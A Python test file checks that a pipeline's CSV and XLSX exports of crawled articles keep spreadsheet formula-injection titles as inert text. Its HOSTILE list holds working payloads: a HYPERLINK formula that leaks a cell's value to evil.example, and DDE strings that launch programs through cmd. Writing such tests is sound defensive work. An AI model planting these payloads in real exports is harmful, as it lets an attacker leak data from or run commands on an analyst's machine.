"""Analysts' exports of crawled text (issue 16, item 4): a title written to make a spreadsheet run
a formula stays text, in CSV and in XLSX, whatever character it starts with."""

from __future__ import annotations

import csv
import zipfile

import pytest

from pipeline.export import export
from pipeline.records import Article, ScoredArticle

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看原文")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def scored(title: str, source: str = "county") -> ScoredArticle:
    article = Article.create(source_id=source, url="https://www.example.gov.cn/1.html", title=title,
                             content="正文")
    return ScoredArticle.from_article(article, relevance=0.5, sensitivity=0.5, level=2,
                                      model_version="test", matched_rules=("=rule",))


@pytest.mark.parametrize("title", HOSTILE)
def test_csv_cells_that_would_be_formulas_are_neutralised(tmp_path, title):
    path = tmp_path / "export.csv"
    export([scored(title, source="@evil")], path)
    with path.open(encoding="utf-8-sig", newline="") as f:
        header, row = list(csv.reader(f))
    cells = dict(zip(header, row))
    assert cells["标题"] == "'" + title.strip()  # Article.create strips a leading tab or CR
    assert cells["来源"] == "'@evil" and cells["命中规则"] == "'=rule"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


@pytest.mark.parametrize("title", HOSTILE)
def test_xlsx_cells_are_written_as_text_never_as_formulas(tmp_path, title):
    from openpyxl import load_workbook

    path = tmp_path / "export.xlsx"
    export([scored(title)], path)
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(path).active
    for cell in sheet[2]:
        if isinstance(cell.value, str):
            assert cell.data_type == "s"
    title_cell = sheet["E2"]
    assert title_cell.value == title.strip() and title_cell.quotePrefix


def test_ordinary_values_are_exported_as_they_are(tmp_path):
    path = tmp_path / "export.csv"
    export([scored("某县纪委监委通报三起典型问题")], path)
    with path.open(encoding="utf-8-sig", newline="") as f:
        _, row = list(csv.reader(f))
    assert row[4] == "某县纪委监委通报三起典型问题" and row[1] == "2" and row[6] == "0.5"
